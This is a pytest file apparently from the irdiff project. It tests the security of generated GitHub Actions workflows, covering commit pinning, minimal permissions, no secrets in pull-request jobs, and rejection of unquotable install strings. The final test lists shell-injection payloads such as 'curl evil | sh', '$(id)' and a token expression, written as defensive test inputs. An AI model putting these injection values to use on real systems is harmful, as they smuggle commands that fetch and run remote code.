from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from irdiff.cli.init import init_command
from irdiff.errors import UsageError
from irdiff.gate import policy
from irdiff.github import workflows

ROOT = Path(__file__).parents[3]
TEMPLATES = ROOT / "reports" / "github"


def _init(*arguments: object) -> None:
    result = CliRunner().invoke(init_command, [str(a) for a in arguments], standalone_mode=False)
    if result.exception:
        raise result.exception


@pytest.mark.parametrize(
    ("path", "content"), workflows.rendered(TEMPLATES, ".", "reports/irdiff-policy.toml").items()
)
def test_our_own_workflows_are_those_of_the_templates(path: str, content: str) -> None:
    assert (ROOT / path).read_text() == content


def test_every_action_is_pinned_to_a_commit() -> None:
    for path, content in workflows.rendered(TEMPLATES, "irdiff==1").items():
        for used in re.findall(r"uses: (.*)", content):
            assert re.fullmatch(r"\./\.github/actions/irdiff|[\w-]+/[\w-]+@[0-9a-f]{40} # v[\d.]+", used), (
                path
            )


def test_no_script_holds_an_expression() -> None:
    for path, content in workflows.rendered(TEMPLATES, "irdiff==1").items():
        for script in re.findall(r"run: (\|\n(?:(?: {10}| {8}).*\n|\n)+|.*\n)", content):
            assert "${{" not in script, path


def test_no_job_has_more_than_it_says() -> None:
    for path, content in workflows.rendered(TEMPLATES, "irdiff==1").items():
        if "/workflows/" in path:
            assert "\npermissions: {}\n" in content
            granted = set(re.findall(r"^ {6}([\w-]+): write", content, re.MULTILINE))
            allowed = {"pull-requests", "checks"} if "comment" in path or "time" in path else set()
            allowed |= {"issues"} if "nightly" in path else set()
            assert granted == allowed, path


def test_a_job_that_runs_the_pull_request_has_no_secret() -> None:
    content = workflows.rendered(TEMPLATES, "irdiff==1")[".github/workflows/irdiff-pr.yml"]
    assert "secrets." not in content
    assert "github.token" not in content
    assert "persist-credentials: false" in content


def test_the_gpu_host_checks_out_nothing() -> None:
    content = workflows.rendered(TEMPLATES, "irdiff==1")[".github/workflows/irdiff-time.yml"]
    job = content[content.index("\n  time:") : content.index("\n  comment:")]
    assert "permissions: {}" in job
    assert "checkout" not in job
    assert "TOKEN" not in job


def test_init_writes_everything_once(tmp_path: Path) -> None:
    _init(tmp_path, "--github", "--install", "irdiff==1.2.3")
    written = {str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*") if path.is_file()}
    assert len(written) == 7
    assert (
        'pip install --quiet --disable-pip-version-check "irdiff==1.2.3"'
        in (tmp_path / ".github/workflows/irdiff-comment.yml").read_text()
    )
    assert policy.load(tmp_path / "irdiff-policy.toml").rule
    _init(tmp_path, "--github", "--install", "irdiff==1.2.3")
    changed = tmp_path / ".github/workflows/irdiff-pr.yml"
    changed.write_text("mine")
    with pytest.raises(UsageError, match="is there and differs"):
        _init(tmp_path, "--github", "--install", "irdiff==1.2.3")
    assert changed.read_text() == "mine"
    _init(tmp_path, "--github", "--install", "irdiff==1.2.3", "--force")
    assert changed.read_text() != "mine"


@pytest.mark.parametrize(
    "install", ['x" && curl evil | sh #', "a\nb", "$(id)", "`id`", "${{ github.token }}"]
)
def test_what_is_installed_cannot_break_out_of_its_quotes(tmp_path: Path, install: str) -> None:
    with pytest.raises(UsageError, match="cannot be quoted"):
        _init(tmp_path, "--github", "--install", install)
